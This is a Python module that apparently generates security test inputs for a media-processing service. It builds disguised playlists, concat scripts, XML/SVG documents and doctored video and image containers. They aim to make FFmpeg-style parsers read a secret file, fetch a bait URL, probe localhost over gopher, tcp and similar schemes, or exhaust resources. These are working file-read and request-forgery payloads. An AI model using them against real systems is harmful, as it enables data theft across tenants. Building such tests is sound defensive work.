"""Files that ask whoever opens them for other files and addresses."""

from __future__ import annotations

import struct
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

_HEAD = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:5\n"
_END = "#EXT-X-ENDLIST\n"
_SDP = (
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
)
NEIGHBOUR = "neighbour.ts"
"""Lies beside every attack, as another tenant's upload would."""


@dataclass(frozen=True)
class Bait:
    """What the attacks are after."""

    url: str
    port: int
    secret: Path
    """Text with a token."""
    film: Path
    """MPEG-TS that plays."""


def attacks(bait: Bait, clip: bytes) -> Mapping[str, bytes]:
    """
    File name → content, the name mostly misleading.

    *clip*: an MP4 without sound, its index last, into which some are built.
    """
    texts = {**_playlists(bait), **_scripts(bait), **_documents(bait)}
    files = {name: text.encode() for name, text in texts.items()}
    return {**files, **_containers(bait, clip)}


def _playlist(*entries: str, ends: bool = True, head: str = "") -> str:
    segments = "".join(f"#EXTINF:5,\n{entry}\n" for entry in entries)
    return _HEAD + head + segments + (_END if ends else "")


def _playlists(bait: Bait) -> Mapping[str, str]:
    url, film = bait.url, f"file://{bait.film}"
    key = '#EXT-X-KEY:METHOD=AES-128,URI="{}"\n'
    master = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000\n"
    return {
        "hls-http.m3u8": _playlist(f"{url}/1.ts"),
        "hls-http.mp4": _playlist(f"{url}/2.ts"),
        "hls-file.mov": _playlist(film),
        "hls-file.avi": _playlist(film),
        "hls-file.ts": _playlist(film),
        "hls-path.txt": _playlist(str(bait.film)),
        "hls-text.mp4": _playlist(f"file://{bait.secret}"),
        "hls-relative.m3u8": _playlist(NEIGHBOUR),
        "hls-relative.mp4": _playlist(NEIGHBOUR),
        "hls-climbs.ts": _playlist(f"../canary/{bait.film.name}"),
        "hls-master.mp4": f"{master}{url}/master.m3u8\n",
        "hls-nested.m3u8": f"{master}hls-file.ts\n",
        "hls-key-http.mp4": _playlist(NEIGHBOUR, head=key.format(f"{url}/key")),
        "hls-key-file.m3u8": _playlist(
            NEIGHBOUR, head=key.format(f"file://{bait.secret}")
        ),
        "hls-map.mp4": _playlist(NEIGHBOUR, head=f'#EXT-X-MAP:URI="{url}/map"\n'),
        "hls-live.mp4": _playlist("gone.ts", ends=False),
        "hls-live-http.m3u8": _playlist(f"{url}/live.ts", ends=False),
        "hls-data.mp4": _playlist("data:video/mp2t;base64,R0FAEAAA"),
        "hls-concat.mp4": _playlist(f"concat:{bait.film}|{bait.secret}"),
        "hls-subfile.mp4": _playlist(f"subfile,,start,0,end,64,,:{bait.secret}"),
        "hls-crypto.mp4": _playlist(f"crypto+file://{bait.secret}"),
        **{
            f"hls-{scheme}.mp4": _playlist(f"{scheme}://127.0.0.1:{bait.port}/x")
            for scheme in ("tcp", "udp", "rtp", "rtsp", "srt", "gopher", "ftp", "tls")
        },
        "hls-unix.mp4": _playlist(f"unix:{bait.secret}"),
        "hls-cache.mp4": _playlist(f"cache:async:{url}/cache.ts"),
        "hls-pattern.mp4": _playlist(f"{bait.film.parent}/%*.ts"),
        "hls-behind-mp3.mp3": "ID3\4\0\0\0\0\0\x0a" + "\0" * 10 + _playlist(film),
        "hls-behind-blanks.mp4": "\ufeff \r\n" + _playlist(film),
        "m3u.mp4": f"{film}\n{url}/plain.ts\n",
        "pls.mp4": f"[playlist]\nNumberOfEntries=1\nFile1={url}/pls.ts\n",
    }


def _scripts(bait: Bait) -> Mapping[str, str]:
    concat = "ffconcat version 1.0\n"
    return {
        "concat-relative.mp4": f"{concat}file '{NEIGHBOUR}'\n",
        "concat-absolute.mp4": f"{concat}file '{bait.film}'\n",
        "concat-http.mov": f"{concat}file '{bait.url}/c.ts'\n",
        "concat-itself.mp4": f"{concat}file 'concat-itself.mp4'\n",
        "concat-plain.txt": f"# a comment\nfile '{NEIGHBOUR}'\n",
        "concat-bomb.mp4": concat + f"file '{NEIGHBOUR}'\n" * 200_000,
        "call.sdp": _SDP.format(port=bait.port),
        "call.mp4": _SDP.format(port=bait.port),
        "call-headless.mp4": _SDP.format(port=bait.port).removeprefix("v=0\n"),
        "pattern-%03d.mp4": "P6\n1 1\n255\n",
        "concat-option.mp4": f"{concat}file '{NEIGHBOUR}'\noption safe 0\n",
        "filter.mp4": f"movie={bait.film}[out0]\n",
        "redirect.rtsp": f"RTSP/1.0 302 Moved\r\nLocation: {bait.url}/rtsp\r\n\r\n",
        "metadata.mp4": f";FFMETADATA1\ntitle={bait.url}/meta\n",
    }


def _documents(bait: Bait) -> Mapping[str, str]:
    xml, url = '<?xml version="1.0"?>\n', bait.url
    dash = (
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT5S" profiles="urn:mpeg:dash:profile:full:2011">'
        "<Period><AdaptationSet><Representation id='1' bandwidth='1'"
        " mimeType='video/mp4'><BaseURL>{}</BaseURL><SegmentList><SegmentURL"
        " media='{}'/></SegmentList></Representation></AdaptationSet></Period></MPD>"
    )
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait.secret}">]><x>&e;</x>'
    picture = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
        f'<image href="{url}/svg" width="64" height="64"/>'
        f'<image href="file://{bait.secret}" width="64" height="64"/></svg>'
    )
    return {
        "dash-http.mpd": xml + dash.format(url, f"{url}/dash.m4s"),
        "dash-file.mp4": xml + dash.format("", f"file://{bait.film}"),
        "dash-bare.mp4": dash.format("", NEIGHBOUR),
        "smil.mp4": f'<smil><body><video src="{url}/smil"/></body></smil>',
        "sami.mp4": f'<SAMI><BODY><SYNC Start=0><img src="{url}/smi"></BODY></SAMI>',
        "entity.mp4": xml + entity,
        "picture.svg": xml + picture,
        "picture.mp4": picture,
        "imf.mp4": xml + f"<AssetMap><Path>{bait.film}</Path></AssetMap>",
        "imf-playlist.mp4": xml
        + '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        + f"<Id>urn:uuid:1</Id><Path>{url}/cpl.mxf</Path></CompositionPlaylist>",
        "captions.srt": f"1\n00:00:00,000 --> 00:00:02,000\n<img src={url}/srt>\n",
        "captions.vtt": f"WEBVTT\n\n00:00.000 --> 00:02.000\n<img src={url}/vtt>\n",
        "captions.ass": f"[Script Info]\nVideo File: {bait.film}\n[Events]\n",
    }


def _containers(bait: Bait, clip: bytes) -> Mapping[str, bytes]:
    path, url = str(bait.film).encode(), bait.url.encode()
    playlist = _playlist(f"file://{bait.film}", bait.url + "/x.ts").encode()
    mxf = bytes.fromhex("060e2b34020501010d01020101020400")
    picture = b"\x89PNG\r\n\x1a\n" + struct.pack(
        ">I4sIIBBBBB", 13, b"IHDR", 64, 64, *b"\x08\2\0\0\0"
    )
    photo = b"\xff\xd8\xff\xc0\0\x11\x08" + struct.pack(">HH", 64, 64) + b"\3"
    gab2 = b"GAB2\0\2\0\0\0\0\0\4\0" + struct.pack("<I", len(playlist)) + playlist
    return {
        "reference-url.mov": _refer(clip, b"url ", url + b"/dref\0"),
        "reference-alias.mov": _refer(clip, b"alis", _alias(path)),
        "reference-neighbour.mov": _refer(clip, b"alis", _alias(NEIGHBOUR.encode())),
        "linked.mkv": _linked(path, url, playlist),
        "picture.png": picture + playlist,
        "picture.jpg": photo + playlist,
        "picture.webp": b"RIFF\xff\0\0\0WEBPVP8L\x20\0\0\0/?\xc0\x0f\0" + playlist,
        "movie-in-skip.mp4": clip + _box(b"free", playlist),
        "playlist-first.mp4": playlist + clip,
        "metadata-link.mp4": clip + _box(b"udta", _box(b"url ", url + b"/udta")),
        "locator.mxf": mxf + b"\x83\0\0\x40" + url + b"/mxf" + path,
        "gab2.avi": _avi(gab2),
        "xbin.avi": _avi(b"XBIN\x1a" + b"\1\0\1\0\x10\0" + playlist),
        "stereo.wav": b"RIFF\xff\xff\xff\x7fWAVEfmt " + playlist,
    }


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), kind) + content


def _refer(clip: bytes, kind: bytes, where: bytes) -> bytes:
    """The clip with its samples said to lie in another file (ISO 14496-12, 8.7.2)."""
    entry = _box(kind, bytes(4) + where)
    return _within(clip, (b"moov", b"trak", b"mdia", b"minf", b"dinf"), entry)


def _within(data: bytes, path: tuple[bytes, ...], entry: bytes) -> bytes:
    parts, at = [], 0
    while at < len(data):
        size, kind = struct.unpack(">I4s", data[at : at + 8])
        content = data[at + 8 : at + size]
        if path and kind == path[0]:
            content = _within(content, path[1:], entry)
        elif kind == b"dref":
            content = bytes(4) + struct.pack(">I", 1) + entry
        parts.append(_box(kind, content))
        at += size
    return b"".join(parts)


def _linked(path: bytes, url: bytes, playlist: bytes) -> bytes:
    """A Matroska file that names its continuation and carries a playlist."""

    def element(number: str, content: bytes) -> bytes:
        size = struct.pack(">Q", len(content) | 1 << 56)
        return bytes.fromhex(number) + size + content

    head = element("1a45dfa3", element("4282", b"matroska") + element("4287", b"\4"))
    info = element("2ad7b1", b"\x0f\x42\x40") + element("3eb923", bytes(16))
    info += element("3e83bb", path) + element("3c83ab", url + b"/previous.mkv")
    attached = element("466e", b"../canary/film.ts") + element("465c", playlist)
    attached += element("4660", b"application/vnd.apple.mpegurl")
    track = element("d7", b"\1") + element("73c5", b"\1") + element("83", b"\x11")
    track += element("86", b"S_TEXT/ASS") + element("63a2", playlist)
    body = element("1549a966", info) + element("1654ae6b", element("ae", track))
    body += element("1941a469", element("61a7", attached))
    return head + element("18538067", body)


def _alias(path: bytes) -> bytes:
    """A Mac OS alias record as libavformat's `mov_read_dref` takes it apart."""
    name = path.rsplit(b"/", 1)[-1]
    head = bytes(10) + b"\1" + b"V".ljust(27, b"\0") + bytes(12)
    head += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16)
    # From the folder of both where it has one level, else the path as it stands.
    levels = 0 if path.startswith(b"/") else 1
    head += struct.pack(">HH", levels, levels) + bytes(16)
    even = path + bytes(len(path) % 2)
    return head + struct.pack(">HH", 2, len(path)) + even + b"\xff\xff\0\0" + bytes(60)


def _avi(content: bytes) -> bytes:
    """An AVI with one text stream whose only packet is *content*."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack("<4sI", name, len(body)) + body + bytes(len(body) % 2)

    header = struct.pack("<14I", 40_000, 0, 0, 16, 1, 0, 1, 0, 64, 64, 0, 0, 0, 0)
    stream = struct.pack("<4s4s10I", b"txts", b"\0\0\0\0", *([0] * 4), 1, 1, 0, 1, 0, 0)
    lists = chunk(
        b"LIST", b"strl" + chunk(b"strh", stream + bytes(8)) + chunk(b"strf", b"")
    )
    body = chunk(b"LIST", b"hdrl" + chunk(b"avih", header) + lists)
    body += chunk(b"LIST", b"movi" + chunk(b"00tx", content))
    return chunk(b"RIFF", b"AVI " + body)
